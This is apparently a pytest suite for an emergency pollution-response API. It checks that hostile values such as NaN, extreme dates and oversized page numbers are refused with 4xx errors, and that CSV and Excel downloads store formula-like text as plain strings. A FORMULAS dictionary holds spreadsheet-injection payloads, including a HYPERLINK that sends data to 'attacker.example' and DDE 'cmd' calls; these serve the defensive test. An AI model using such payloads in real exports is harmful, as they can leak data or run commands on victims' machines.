"""Hostile values (issue: trust): every one is a 4xx, never a 500, and changes nothing.

- Non-finite numbers (``NaN``, ``1e309``, ``Infinity``) get a 422 whose body is valid JSON.
- Dates and times from outside lie within 2000-01-01 … 2100-12-31; page numbers within
  1 … 2^31 − 1 (a 404 page).
- A stored report at the edge of year 9999 (or a deadline too large for a date) does not
  break the compliance view for everyone.
- A report is tied to its order: acknowledged first, dated within the order's period plus
  the report deadline, not after the server's clock.
- Downloads hold no live formula: text that starts like one is written with a leading
  apostrophe, and the workbook stores it as a string.
- A consultation forecast is at most ``max_forecast_days`` long.

Each runs on SQLite and, with ``EMERGENCY_TEST_DATABASE_URL``, on PostgreSQL.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from api.main import create_app
from emergency.cli import app as cli
from emergency.service.enterprises import open_store
from emergency.settings import CITY_OFFSET, Settings
from emergency.store.db import Store
from emergency.store.models import Order, Report
from tests.api.conftest import ORANGE, Clock, bearer, forecast, make_token
from tests.datafiles import small_city, small_plans, small_rows, write_small_dataset
from tests.pages.conftest import sign_in

API = "/api/v1"
ROLES = ("admin", "consultation", "planner", "inspector", "enterprise")
JSON = {"content-type": "application/json"}


def city_time(day: int, hour: int = 0, minute: int = 0) -> dt.datetime:
    """``day`` December 2016 at ``hour``:``minute`` in the city (+08:00)."""
    return dt.datetime(2016, 12, day, hour, minute, tzinfo=CITY_OFFSET)


@dataclass
class City:
    """An app on the small city, its store and clock, and one token per role."""

    client: TestClient
    store: Store
    clock: Clock
    tokens: dict[str, str]

    def headers(self, role: str) -> dict[str, str]:
        return bearer(self.tokens[role])

    def open_orange(self, approve: bool = True) -> int:
        """The orange response of 16–19 Dec (approved: its orders issued); its id."""
        r = self.client.post(f"{API}/consultations", json=ORANGE, headers=self.headers("planner"))
        assert r.status_code == 200, r.text
        rid: int = r.json()["response_id"]
        if approve:
            r = self.client.post(f"{API}/responses/{rid}/approve", headers=self.headers("planner"))
            assert r.status_code == 200, r.text
        return rid

    def own_order(self) -> dict[str, Any]:
        """The enterprise's (JY-P001's) first order."""
        orders = self.client.get(f"{API}/orders", headers=self.headers("enterprise")).json()
        assert orders, "no order for JY-P001"
        first: dict[str, Any] = orders[0]
        return first

    def report(self, order_id: int, body: dict[str, Any] | bytes) -> Any:
        url = f"{API}/orders/{order_id}/reports"
        headers = self.headers("enterprise")
        if isinstance(body, bytes):
            return self.client.post(url, content=body, headers=headers | JSON)
        return self.client.post(url, json=body, headers=headers)

    def reports(self, order_id: int) -> list[dict[str, Any]]:
        answer = self.client.get(
            f"{API}/orders/{order_id}/reports", headers=self.headers("planner")
        )
        reports: list[dict[str, Any]] = answer.json()
        return reports


def make_city(data_dir: Path, db_url: str | None) -> Iterator[City]:
    clock = Clock()
    store = open_store(data_dir, db_url, solver_time_limit_s=10.0, now=clock)
    try:
        tokens = {
            role: make_token(store, role, "JY-P001" if role == "enterprise" else None)
            for role in ROLES
        }
        app = create_app(Settings(data=data_dir, database_url=db_url), store=store)
        english = {"Accept-Language": "en"}  # the problems in English
        with TestClient(app, raise_server_exceptions=False, headers=english) as client:
            yield City(client, store, clock, tokens)
    finally:
        store.dispose()


@pytest.fixture
def city(data_dir: Path, db_url: str | None) -> Iterator[City]:
    yield from make_city(data_dir, db_url)


def strict_json(text: str) -> Any:
    """``json.loads`` that refuses JSON's non-standard ``NaN``, ``Infinity``, ``-Infinity``."""

    def refuse(token: str) -> None:
        raise ValueError(f"non-standard JSON token {token}")

    return json.loads(text, parse_constant=refuse)


def assert_field_error(answer: Any, status: int, field: str) -> None:
    """A ``status`` answer, valid JSON, whose detail names ``field`` (a 422: in an error's
    location; else ``field: ...`` in the message)."""
    assert answer.status_code == status, (answer.status_code, answer.text[:300])
    detail = strict_json(answer.text)["detail"]
    if isinstance(detail, list):
        assert any(field in error["loc"] for error in detail), detail
    else:
        assert re.search(rf"(^|\s){re.escape(field)}: ", detail), detail


# ----------------------------------------------------------------------------- numbers


def test_non_finite_numbers_are_a_422_with_a_json_body(city: City) -> None:
    """``NaN``, ``1e309`` (infinity once parsed) and ``Infinity`` in bodies: a 422 that
    names the field and renders the value as a string; nothing stored."""
    rid = city.open_orange()
    order = city.own_order()["id"]
    city.client.post(f"{API}/orders/{order}/ack", headers=city.headers("enterprise"))
    at = '"2016-12-16T10:00:00+08:00"'
    for body, shown in [
        (f'{{"at": {at}, "load": NaN}}', "NaN"),
        (f'{{"at": {at}, "load": 1e309}}', "Infinity"),
        (f'{{"at": {at}, "load": -1e309}}', "-Infinity"),
        (f'{{"at": {at}, "load": 0.5, "electricity_kwh": Infinity}}', "Infinity"),
    ]:
        answer = city.report(order, body.encode())
        assert_field_error(answer, 422, "body")
        assert shown in [e.get("input") for e in strict_json(answer.text)["detail"]], answer.text
    assert city.reports(order) == []
    override = b'{"source": "JY-S001", "exempt": true, "reason": Infinity}'
    url = f"{API}/responses/{rid}/overrides"
    answer = city.client.post(url, content=override, headers=city.headers("planner") | JSON)
    assert_field_error(answer, 422, "reason")
    for version in (b"1e400", b"NaN", b"99999999999999999999", b"0"):
        answer = city.client.post(
            f"{API}/responses/{rid}/approve",
            content=b'{"plan_version": ' + version + b"}",
            headers=city.headers("planner") | JSON,
        )
        assert_field_error(answer, 422, "plan_version")


# ----------------------------------------------------------------------------- dates


@pytest.mark.parametrize(
    "issued_at", ["9999-12-31T23:59:59+00:00", "9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00Z"]
)
def test_a_forecast_from_year_9999_or_1_is_a_400(city: City, issued_at: str) -> None:
    answer = city.client.post(
        f"{API}/consultations",
        json=forecast(dt.date(2016, 12, 16), [[210, 260]] * 4, issued_at=issued_at),
        headers=city.headers("consultation"),
    )
    assert_field_error(answer, 400, "issued_at")
    assert "2000-01-01" in answer.json()["detail"]
    far = forecast(dt.date(9999, 12, 29), [[210, 260]] * 3)
    answer = city.client.post(f"{API}/consultations", json=far, headers=city.headers("planner"))
    assert_field_error(answer, 400, "days[0].date")
    consultations = city.client.get(f"{API}/consultations", headers=city.headers("planner"))
    assert consultations.json() == []


@pytest.mark.parametrize(
    "since", ["9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+14:00", "9999-12-31", "1999-12-31"]
)
def test_the_audit_log_since_year_9999_is_a_422(city: City, since: str) -> None:
    answer = city.client.get(f"{API}/audit", params={"since": since}, headers=city.headers("admin"))
    assert_field_error(answer, 422, "since")
    fine = {"since": "2016-12-01T00:00:00+08:00"}
    assert city.client.get(f"{API}/audit", params=fine, headers=city.headers("admin")).is_success


def test_a_page_number_beyond_the_database_is_a_404_page(city: City) -> None:
    """``?version=`` on the pages: out of 1 … 2^31 − 1 a 404 page (SQLite overflowed,
    PostgreSQL refused the query: a 500)."""
    rid = city.open_orange(approve=False)
    sign_in(city.client, city.tokens["planner"])
    for version in ("99999999999999999999", str(2**31), "0", "-1"):
        for page in ("", "/map", "/plan.csv", "/plan.xlsx"):
            url = f"/responses/{rid}{page}?version={version}"
            answer = city.client.get(url)
            assert answer.status_code == 404, (url, answer.status_code, answer.text[:300])
            assert "text/html" in answer.headers["content-type"], url
        assert city.client.get(f"/responses/{rid}?version=1").status_code == 200


# ----------------------------------------------------------------------------- compliance


def test_a_report_from_year_9999_is_refused_and_a_stored_one_breaks_nothing(city: City) -> None:
    """The report is a 422 now; one stored before (written here straight to the store),
    and a deadline too large for a date, leave the compliance view and page working."""
    rid = city.open_orange()
    order = city.own_order()["id"]
    city.client.post(f"{API}/orders/{order}/ack", headers=city.headers("enterprise"))
    for at in ("9999-12-31T23:59:59+00:00", "0001-01-01T00:00:00+00:00"):
        assert_field_error(city.report(order, {"at": at, "load": 0.5}), 422, "at")
    assert city.reports(order) == []
    with city.store.session() as session:
        stored = session.get(Order, order)
        assert stored is not None
        for edge in (dt.datetime.max, dt.datetime.min):
            session.add(
                Report(
                    order_id=order,
                    at=edge.replace(tzinfo=dt.UTC),
                    load=0.9,
                    electricity_kwh=None,
                    baseline_electricity_kwh=None,
                    note="stored before the rule",
                    received_at=city.clock(),
                    actor="enterprise:old",
                )
            )
        session.commit()
    inspector = city.headers("inspector")
    for hours in (None, 1e300, float("inf")):
        city.store.config.ack_deadline_hours = hours
        answer = city.client.get(f"{API}/compliance", params={"response": rid}, headers=inspector)
        assert answer.status_code == 200, answer.text[:300]
        view = strict_json(answer.text)
        assert view["reported"] == 1 and any(a["kind"] == "load" for a in view["anomalies"])
    sign_in(city.client, city.tokens["inspector"])
    page = city.client.get(f"/responses/{rid}/compliance")
    assert page.status_code == 200, page.text[:300]
    assert "9999-12-31" in page.text


# ----------------------------------------------------------------------------- reports


def test_a_report_needs_the_acknowledgement_first(city: City) -> None:
    city.open_orange()
    order = city.own_order()
    assert order["start"] == "2016-12-16" and order["acknowledged_at"] is None
    city.clock.now = city_time(16, 12)
    report = {"at": city_time(16, 10).isoformat(), "load": 0.3}
    answer = city.report(order["id"], report)
    assert answer.status_code == 409 and "acknowledge the order first" in answer.json()["detail"]
    assert city.client.post(
        f"{API}/orders/{order['id']}/ack", headers=city.headers("enterprise")
    ).is_success
    assert city.report(order["id"], report).status_code == 201


def test_a_report_lies_within_its_orders_period_and_not_in_the_future(city: City) -> None:
    """An order for 16 Dec (open-ended, planned to 19 Dec): reports from 16 Dec 00:00
    (+08:00) to 20 Dec 00:00 plus the 24 h report deadline, never after the clock."""
    rid = city.open_orange()
    order = city.own_order()
    oid = order["id"]
    assert (order["start"], order["end"], order["planned_end"]) == (
        "2016-12-16",
        None,
        "2016-12-19",
    )
    assert city.client.post(
        f"{API}/orders/{oid}/ack", headers=city.headers("enterprise")
    ).is_success
    city.clock.now = city_time(16, 10)
    refused = [
        ("1990-12-16T10:00:00+08:00", 422),  # before 2000: not a date we take
        ("2016-12-01T10:00:00+08:00", 409),  # before the order
        (city_time(15, 23, 59).isoformat(), 409),  # the minute before its first day
        ("2016-12-30T10:00:00+08:00", 409),  # long after its last day
        (city_time(16, 10, 6).isoformat(), 400),  # in the future (beyond 5 min of skew)
        (city_time(17, 9).isoformat(), 400),  # tomorrow
    ]
    for at, status in refused:
        answer = city.report(oid, {"at": at, "load": 0.3})
        assert_field_error(answer, status, "at")
        if status == 409:
            assert "2016-12-16 00:00+08:00" in answer.json()["detail"]  # names the period
    assert city.reports(oid) == []
    for taken in (city_time(16), city_time(16, 10), city_time(16, 10, 4)):
        assert city.report(oid, {"at": taken.isoformat(), "load": 0.3}).status_code == 201
    city.clock.now = city_time(21, 12)  # the order's last day is behind: the deadline
    assert city.report(oid, {"at": city_time(19, 20).isoformat(), "load": 0.3}).is_success
    assert city.report(oid, {"at": city_time(20, 23).isoformat(), "load": 0.3}).is_success
    late = city.report(oid, {"at": city_time(21, 0, 30).isoformat(), "load": 0.3})
    assert_field_error(late, 409, "at")
    assert "2016-12-21 00:00+08:00" in late.json()["detail"]
    city.store.config.report_grace_hours = 0.0
    assert_field_error(
        city.report(oid, {"at": city_time(20, 1).isoformat(), "load": 0.3}), 409, "at"
    )
    assert len(city.reports(oid)) == 5
    # released on 17 Dec: the order ends that day; reports after it are refused
    city.store.config.report_grace_hours = 24.0
    city.clock.now = city_time(17, 12)
    r = city.client.post(f"{API}/responses/{rid}/release", headers=city.headers("planner"))
    assert r.status_code == 200, r.text
    city.clock.now = city_time(19, 12)
    after = city.report(oid, {"at": city_time(18, 10).isoformat(), "load": 0.3})
    assert after.status_code == 409
    assert city.report(oid, {"at": city_time(17, 11).isoformat(), "load": 0.3}).is_success


# ----------------------------------------------------------------------------- downloads

FORMULAS = {
    "=": '=HYPERLINK("http://attacker.example/?x="&A1,"点击 click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def formula_dataset(path: Path) -> Path:
    """The small city whose measure names (and a few source names) start like formulas."""
    plans = small_plans()
    for measure in plans["JY-P001"]["measures"]:
        measure["name"] = FORMULAS["="]
    plans["JY-P002"]["measures"][0]["name"] = FORMULAS["@"]
    plans["JY-P002"]["measures"][1]["name"] = FORMULAS["+"]
    plans["JY-P003"]["measures"][0]["name"] = FORMULAS["tab"]
    city = small_city()
    for measure in city["defaults"]["yard"]["measures"]:
        measure["name"] = FORMULAS["cr"]
    rows = small_rows()
    for row in rows:
        row["name"] = FORMULAS["-"] if row["id"] == "JY-S001" else row["name"]
    return write_small_dataset(path, rows=rows, city=city, plans=plans)


@pytest.fixture
def formula_city(tmp_path: Path, db_url: str | None) -> Iterator[City]:
    yield from make_city(formula_dataset(tmp_path / "formulas"), db_url)


def assert_no_formula_text(values: list[Any]) -> None:
    texts = [v for v in values if isinstance(v, str)]
    assert not [v for v in texts if v.startswith(("=", "+", "-", "@", "\t", "\r"))], texts
    assert "'" + FORMULAS["="] in texts  # written as text, not dropped


def assert_safe_csv(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and all(row["source"].startswith("JY-") and None not in row for row in rows)
    assert "\r" not in text  # a lone CR inside a text is a row's end to many readers
    assert_no_formula_text([value for row in rows for value in row.values()])
    assert float(rows[0]["cost_yuan"]) >= 0  # numbers stay numbers


def assert_safe_xlsx(content: bytes) -> None:
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert_no_formula_text([c.value for c in cells])
    assert any(c.data_type == "n" and isinstance(c.value, int | float) for c in cells)


def test_downloads_write_formulas_as_text(formula_city: City) -> None:
    """A measure named ``=HYPERLINK(...)``: in ``plan.csv``, ``plan.xlsx`` and
    ``plan-report.xlsx`` (API and pages) it is text with a leading apostrophe; the
    workbooks have no formula cell."""
    rid = formula_city.open_orange(approve=False)
    planner = formula_city.headers("planner")
    plan = formula_city.client.get(f"{API}/responses/{rid}/plan", headers=planner).json()
    assert FORMULAS["="] in {a["measure_name"] for a in plan["assignments"]}  # JSON: verbatim
    answer = formula_city.client.get(f"{API}/responses/{rid}/plan.csv", headers=planner)
    assert answer.status_code == 200
    assert_safe_csv(answer.text)
    answer = formula_city.client.get(f"{API}/responses/{rid}/plan.xlsx", headers=planner)
    assert answer.status_code == 200
    assert_safe_xlsx(answer.content)
    sign_in(formula_city.client, formula_city.tokens["planner"])
    assert_safe_csv(formula_city.client.get(f"/responses/{rid}/plan.csv").text)
    assert_safe_xlsx(formula_city.client.get(f"/responses/{rid}/plan.xlsx").content)
    report = formula_city.client.get(f"{API}/responses/{rid}/plan-report.xlsx", headers=planner)
    assert report.status_code == 200
    assert_safe_xlsx(report.content)
    assert_safe_xlsx(formula_city.client.get(f"/responses/{rid}/plan-report.xlsx").content)


def test_the_cli_writes_formulas_as_text(tmp_path: Path) -> None:
    """``emergency respond --csv / --xlsx`` on the same data folder."""
    data = formula_dataset(tmp_path / "formulas")
    forecast_file = tmp_path / "forecast.json"
    forecast_file.write_text(json.dumps(ORANGE), encoding="utf-8")
    runner = CliRunner()
    outputs = {"--csv": tmp_path / "list.csv", "--xlsx": tmp_path / "list.xlsx"}
    for flag, out in outputs.items():
        args = ["respond", "-f", str(forecast_file), "--data", str(data), flag, str(out)]
        result = runner.invoke(cli, [*args, "--lang", "en"])
        assert result.exit_code == 0, result.output
    assert_safe_csv(outputs["--csv"].read_text(encoding="utf-8-sig"))
    assert_safe_xlsx(outputs["--xlsx"].read_bytes())


# ----------------------------------------------------------------------------- work


def test_a_forecast_longer_than_max_forecast_days_is_a_400(city: City) -> None:
    """A 365-day forecast took minutes of solving; over ``max_forecast_days`` (15) it is
    refused before any planning."""
    year = forecast(dt.date(2016, 12, 16), [[210, 260]] * 365)
    answer = city.client.post(f"{API}/consultations", json=year, headers=city.headers("planner"))
    assert_field_error(answer, 400, "days")
    assert "15" in answer.json()["detail"]
    sixteen = forecast(dt.date(2016, 12, 16), [[210, 260]] * 4 + [[100, 150]] * 12)
    answer = city.client.post(f"{API}/consultations", json=sixteen, headers=city.headers("planner"))
    assert_field_error(answer, 400, "days")
    city.store.config.max_forecast_days = 4
    answer = city.client.post(f"{API}/consultations", json=ORANGE, headers=city.headers("planner"))
    assert_field_error(answer, 400, "days")
    assert city.client.get(f"{API}/consultations", headers=city.headers("planner")).json() == []


def test_the_limits_are_settings(
    monkeypatch: pytest.MonkeyPatch, data_dir: Path, db_url: str | None
) -> None:
    """``EMERGENCY_MAX_FORECAST_DAYS`` and ``EMERGENCY_REPORT_GRACE_HOURS`` reach the store
    of an app that opens its own."""
    for name in ("EMERGENCY_MAX_FORECAST_DAYS", "EMERGENCY_REPORT_GRACE_HOURS"):
        monkeypatch.delenv(name, raising=False)
    defaults = Settings(data=data_dir, database_url=db_url, _env_file=None)  # type: ignore[call-arg]
    assert (defaults.max_forecast_days, defaults.report_grace_hours) == (15, 24.0)
    monkeypatch.setenv("EMERGENCY_MAX_FORECAST_DAYS", "7")
    monkeypatch.setenv("EMERGENCY_REPORT_GRACE_HOURS", "6")
    settings = Settings(data=data_dir, database_url=db_url)
    assert (settings.max_forecast_days, settings.report_grace_hours) == (7, 6.0)
    with TestClient(create_app(settings)) as client:
        config = client.app.state.store.config  # type: ignore[attr-defined]
        assert (config.max_forecast_days, config.report_grace_hours) == (7, 6.0)
